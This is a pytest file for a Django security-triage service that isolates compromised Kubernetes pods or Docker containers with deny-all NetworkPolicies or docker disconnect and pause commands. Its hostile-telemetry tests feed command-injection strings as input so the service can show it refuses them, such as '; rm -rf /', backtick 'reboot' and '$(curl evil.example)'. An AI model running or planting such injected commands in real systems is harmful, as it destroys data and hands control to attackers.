"""Isolate container: a deny-all NetworkPolicy for a pod (applied to a cluster or offered as a manifest),
Docker commands for a plain container, hostile telemetry refused, every action recorded.

The cluster is a loopback stand-in (http.server on 127.0.0.1) that answers like the API server.
"""

from __future__ import annotations

import json
import shlex
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import yaml
from django.contrib.auth.models import User
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import override_settings

from audit.models import AuditEntry
from tests.api.conftest import make_alert
from tests.detections.pipeline_factories import make_event, make_match
from triage.models import AlertEvidence, ResponseAction
from triage.services import isolate_container, isolation_plan

pytestmark = pytest.mark.django_db

NGINX_LABELS = {"app": "nginx", "pod-template-hash": "1006159464"}


def pod_create_record(*, name="web-1", namespace="default", labels=None) -> dict:
    """A pod create as the API server audits it (RequestResponse level), after the Falco trace files."""
    labels = NGINX_LABELS if labels is None else labels
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"generateName": "nginx-", "labels": labels}}
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "verb": "create",
        "objectRef": {"resource": "pods", "namespace": namespace, "apiVersion": "v1"},
        "requestObject": pod,
        "responseObject": {**pod, "metadata": {**pod["metadata"], "name": name, "namespace": namespace}},
    }


def alert_on(rule, *events, entity_type="pod", entity="default/web-1"):
    alert = make_alert(rule=rule, entity=entity, matches=0)
    alert.entity_type = entity_type
    alert.save()
    for event in events:
        match = make_match(rule=rule, entity=entity, entity_type=entity_type, event=event)
        AlertEvidence.objects.create(alert=alert, match=match)
    return alert


def labelled_pod_alert(rule, *, pod="web-1", labels=None):
    event = make_event(namespace="default", pod=pod, raw=pod_create_record(name=pod, labels=labels))
    return alert_on(rule, event, entity=f"default/{pod}")


def docker_alert(rule, *, container_id="9656db3bb358", name="falco-event-generator-1", networks=("bridge",)):
    raw = {
        "Id": container_id,
        "Name": f"/{name}",
        "NetworkSettings": {"Networks": {n: {"NetworkID": "9352796e"} for n in networks}},
    }
    event = make_event(kind="container", container_id=container_id, container_name=name, raw=raw)
    return alert_on(rule, event, entity_type="container", entity=container_id)


def policy_of(manifest: str) -> dict:
    return yaml.safe_load(manifest)


# --------------------------------------------------------------------------- the plan


def test_a_pod_alert_gives_a_deny_all_network_policy_selecting_the_pods_labels(rule):
    plan = isolation_plan(alert=labelled_pod_alert(rule))

    policy = policy_of(plan.manifest)
    assert policy["apiVersion"] == "networking.k8s.io/v1"
    assert policy["kind"] == "NetworkPolicy"
    assert policy["metadata"]["name"] == "ads-portal-isolate-web-1"
    assert policy["metadata"]["namespace"] == "default"
    assert policy["spec"]["podSelector"] == {"matchLabels": NGINX_LABELS}
    assert policy["spec"]["policyTypes"] == ["Ingress", "Egress"]
    assert "ingress" not in policy["spec"] and "egress" not in policy["spec"]  # no rule: nothing allowed
    assert policy["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "ads-portal"
    assert plan.target == "pod default/web-1" and not plan.quarantine


def test_falco_pod_labels_in_output_fields_select_the_pod(rule):
    raw = {
        "rule": "Terminal shell in container",
        "output_fields": {
            "container.id": "9656db3bb358",
            "k8s.ns.name": "shop",
            "k8s.pod.name": "cart-7d9f",
            "k8s.pod.labels": "app:cart, tier:backend",
            "k8s.pod.label.team": "payments",
        },
    }
    event = make_event(kind="process", container_id="9656db3bb358", pod="cart-7d9f", namespace="shop", raw=raw)
    plan = isolation_plan(alert=alert_on(rule, event, entity_type="container", entity="9656db3bb358"))

    assert plan.platform == "kubernetes" and plan.target == "pod shop/cart-7d9f"
    assert policy_of(plan.manifest)["spec"]["podSelector"]["matchLabels"] == {
        "app": "cart",
        "tier": "backend",
        "team": "payments",
    }


def test_a_pod_with_unknown_labels_is_quarantined_by_label_first(rule):
    plan = isolation_plan(alert=make_alert(rule=rule, entity="default/web-1"))  # events with no labels

    assert plan.quarantine
    assert policy_of(plan.manifest)["spec"]["podSelector"] == {"matchLabels": {"ads-portal/quarantine": "true"}}
    assert plan.commands[0] == "kubectl label pod --namespace default web-1 ads-portal/quarantine=true --overwrite"
    assert plan.manifest.startswith("# Isolates pod default/web-1")
    assert any("labels are not in the evidence" in note for note in plan.notes)


def test_a_long_pod_name_gives_a_policy_name_of_at_most_63_characters(rule):
    pod = "checkout-" + "a" * 100
    name = isolation_plan(alert=labelled_pod_alert(rule, pod=pod)).policy_name

    assert len(name) <= 63 and name.startswith("ads-portal-isolate-checkout-")
    assert name != isolation_plan(alert=labelled_pod_alert(rule, pod=pod + "b")).policy_name


def test_a_docker_container_gets_disconnect_and_pause_commands(rule):
    plan = isolation_plan(alert=docker_alert(rule, networks=("bridge", "backend_net")))

    assert plan.platform == "docker"
    assert [shlex.split(c) for c in plan.commands] == [
        ["docker", "network", "disconnect", "--force", "bridge", "9656db3bb358"],
        ["docker", "network", "disconnect", "--force", "backend_net", "9656db3bb358"],
        ["docker", "pause", "9656db3bb358"],
    ]
    assert plan.target == "container 9656db3bb358 (falco-event-generator-1)"


def test_a_docker_container_with_unknown_networks_lists_them_with_docker_inspect_first(rule):
    plan = isolation_plan(alert=docker_alert(rule, networks=()))

    assert plan.commands[0].startswith("for network in $(docker inspect --format")
    assert 'docker network disconnect --force "$network" 9656db3bb358' in plan.commands[0]
    assert plan.commands[-1] == "docker pause 9656db3bb358"


# --------------------------------------------------------------------------- hostile telemetry


@pytest.mark.parametrize(
    "entity_type, entity",
    [
        ("pod", "default/web-1; rm -rf /"),
        ("pod", "default/$(curl evil.example)"),
        ("pod", "kube system/web-1"),
        ("container", "x; rm -rf /"),
        ("container", "`reboot`"),
    ],
)
def test_hostile_pod_names_and_containers_are_refused(rule, entity_type, entity):
    alert = alert_on(rule, entity_type=entity_type, entity=entity)

    with pytest.raises(ValidationError, match="refusing to act on it"):
        isolation_plan(alert=alert)


def test_hostile_labels_are_ignored_and_the_pod_is_quarantined_by_name(rule):
    alert = labelled_pod_alert(rule, labels={"app": "web", "x": "$(rm -rf /)"})
    plan = isolation_plan(alert=alert)

    assert plan.quarantine and "rm -rf" not in plan.manifest
    assert any("not labels an API server accepts" in note for note in plan.notes)


def test_hostile_network_names_never_reach_a_command(rule):
    plan = isolation_plan(alert=docker_alert(rule, networks=("bridge", "net; rm -rf /")))

    assert not any("rm -rf" in command for command in plan.commands)
    assert shlex.split(plan.commands[0]) == ["docker", "network", "disconnect", "--force", "bridge", "9656db3bb358"]


def test_refused_evidence_records_nothing(rule, analyst):
    alert = alert_on(rule, entity_type="container", entity="x; rm -rf /")

    with pytest.raises(ValidationError):
        isolate_container(alert=alert, user=analyst)
    assert not ResponseAction.objects.exists()
    assert not AuditEntry.objects.filter(action="alert.isolate").exists()


# --------------------------------------------------------------------------- recording, permissions


def test_without_a_cluster_the_manifest_is_recorded_with_who_and_when(
    rule, analyst, django_capture_on_commit_callbacks
):
    alert = labelled_pod_alert(rule)
    with django_capture_on_commit_callbacks() as announced:
        action = isolate_container(alert=alert, user=analyst)

    assert (action.result, action.kind, action.target) == ("manifest", "isolate_container", "pod default/web-1")
    assert policy_of(action.output)["kind"] == "NetworkPolicy"
    assert action.taken_by == analyst and action.taken_at is not None and action.alert == alert
    entry = AuditEntry.objects.get(action="alert.isolate", object_id=str(alert.pk))
    assert entry.actor == analyst and entry.changes == {"response_action": [None, action.pk]}
    assert "pod default/web-1: manifest produced" in entry.note
    assert len(announced) == 1  # the live queues hear of it after commit


def test_a_docker_target_records_the_commands(rule, analyst):
    action = isolate_container(alert=docker_alert(rule), user=analyst)

    assert action.result == "commands"
    assert action.output.splitlines()[-1] == "docker pause 9656db3bb358"


def test_a_user_with_no_triage_role_cannot_isolate(rule):
    nobody = User.objects.create_user(username="nobody", password="pw-for-tests-1")

    with pytest.raises(PermissionDenied):
        isolate_container(alert=labelled_pod_alert(rule), user=nobody)
    assert not ResponseAction.objects.exists()


# --------------------------------------------------------------------------- the cluster (a loopback stand-in)


class StandInApiServer(ThreadingHTTPServer):
    """Answers the two calls isolation makes like kube-apiserver: create a NetworkPolicy, patch a pod."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _StandInHandler)
        self.requests: list[dict] = []
        self.policies: dict[tuple[str, str], dict] = {}

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _StandInHandler(BaseHTTPRequestHandler):
    def log_message(self, *args):  # keep the test output clean
        pass

    def _answer(self, code: int, body: dict):
        data = json.dumps(body).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _read(self) -> dict:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        self.server.requests.append(
            {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
        )
        return body

    def do_POST(self):
        body = self._read()
        parts = self.path.split("?")[0].strip("/").split("/")
        if parts[:4] != ["apis", "networking.k8s.io", "v1", "namespaces"] or parts[5:] != ["networkpolicies"]:
            return self._answer(404, {"kind": "Status", "code": 404, "message": "the server could not find it"})
        namespace, name = parts[4], body["metadata"]["name"]
        if namespace == "locked":
            message = f'networkpolicies.networking.k8s.io is forbidden: cannot create in namespace "{namespace}"'
            return self._answer(403, {"kind": "Status", "code": 403, "reason": "Forbidden", "message": message})
        if (namespace, name) in self.server.policies:
            message = f'networkpolicies.networking.k8s.io "{name}" already exists'
            return self._answer(409, {"kind": "Status", "code": 409, "reason": "AlreadyExists", "message": message})
        self.server.policies[(namespace, name)] = body
        self._answer(201, body)

    def do_PATCH(self):
        body = self._read()
        *_, namespace, _, name = self.path.split("?")[0].strip("/").split("/")
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace}}
        pod["metadata"]["labels"] = body["metadata"]["labels"]
        self._answer(200, pod)


@pytest.fixture
def api_server():
    server = StandInApiServer()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def cluster(url: str, **extra) -> dict:
    return {"host": url, "token": "t0ken-for-tests", "verify_ssl": False, "timeout_seconds": 2, **extra}


def test_with_a_cluster_the_policy_is_applied_and_a_second_isolate_is_idempotent(rule, analyst, api_server):
    alert = labelled_pod_alert(rule)
    with override_settings(ADS_KUBERNETES=cluster(api_server.url)):
        first = isolate_container(alert=alert, user=analyst)
        second = isolate_container(alert=alert, user=analyst)

    assert (first.result, second.result) == ("applied", "applied")
    assert "created" in first.output and "already exists (already isolated)" in second.output
    sent = api_server.requests[0]
    assert sent["method"] == "POST"
    assert sent["path"] == "/apis/networking.k8s.io/v1/namespaces/default/networkpolicies"
    assert {k.lower(): v for k, v in sent["headers"].items()}["authorization"] == "Bearer t0ken-for-tests"
    assert sent["body"]["kind"] == "NetworkPolicy" and sent["body"]["apiVersion"] == "networking.k8s.io/v1"
    assert sent["body"]["spec"] == {"podSelector": {"matchLabels": NGINX_LABELS}, "policyTypes": ["Ingress", "Egress"]}
    assert len(api_server.requests) == 2 and len(api_server.policies) == 1
    assert AuditEntry.objects.filter(action="alert.isolate", object_id=str(alert.pk)).count() == 2


def test_a_quarantine_on_a_cluster_labels_the_pod_after_creating_the_policy(rule, analyst, api_server):
    alert = make_alert(rule=rule, entity="default/web-1")
    with override_settings(ADS_KUBERNETES=cluster(api_server.url)):
        action = isolate_container(alert=alert, user=analyst)

    assert action.result == "applied"
    create, label = api_server.requests
    assert create["body"]["spec"]["podSelector"] == {"matchLabels": {"ads-portal/quarantine": "true"}}
    assert (label["method"], label["path"]) == ("PATCH", "/api/v1/namespaces/default/pods/web-1")
    assert {k.lower(): v for k, v in label["headers"].items()}["content-type"] == "application/merge-patch+json"
    assert label["body"] == {"metadata": {"labels": {"ads-portal/quarantine": "true"}}}


def test_a_cluster_that_refuses_gives_a_failed_action_with_its_reason(rule, analyst, api_server):
    event = make_event(namespace="locked", pod="web-1", raw=pod_create_record(namespace="locked"))
    alert = alert_on(rule, event, entity="locked/web-1")
    with override_settings(ADS_KUBERNETES=cluster(api_server.url)):
        action = isolate_container(alert=alert, user=analyst)

    assert action.result == "failed"
    assert "HTTP 403 Forbidden" in action.output and "cannot create in namespace" in action.output


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_an_unreachable_cluster_gives_a_failed_action_quickly(rule, analyst):
    alert = labelled_pod_alert(rule)
    started = time.monotonic()
    with override_settings(ADS_KUBERNETES=cluster(f"http://127.0.0.1:{_closed_port()}")):
        action = isolate_container(alert=alert, user=analyst)

    assert time.monotonic() - started < 5
    assert action.result == "failed" and "Could not reach the cluster" in action.output
    assert "t0ken" not in action.output
    assert AuditEntry.objects.get(action="alert.isolate").note.startswith("Isolate pod default/web-1: failed")


def test_a_cluster_that_never_answers_times_out(rule, analyst):
    alert = labelled_pod_alert(rule)
    with socket.socket() as silent:  # accepts connections into its backlog and never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen(4)
        url = f"http://127.0.0.1:{silent.getsockname()[1]}"
        started = time.monotonic()
        with override_settings(ADS_KUBERNETES=cluster(url, timeout_seconds=0.5)):
            action = isolate_container(alert=alert, user=analyst)
        elapsed = time.monotonic() - started

    assert elapsed < 3
    assert action.result == "failed" and "timed out" in action.output.lower()


def test_a_docker_network_connect_event_names_a_network_to_disconnect(rule):
    connect = {
        "Type": "network",
        "Action": "connect",
        "Actor": {"ID": "9352796e0330", "Attributes": {"container": "9656db3bb358" + "0" * 52, "name": "frontend"}},
    }
    event = make_event(kind="container", container_id="9656db3bb358" + "0" * 52, raw=connect)
    plan = isolation_plan(alert=alert_on(rule, event, entity_type="container", entity="9656db3bb358" + "0" * 52))

    assert shlex.split(plan.commands[0])[:5] == ["docker", "network", "disconnect", "--force", "frontend"]
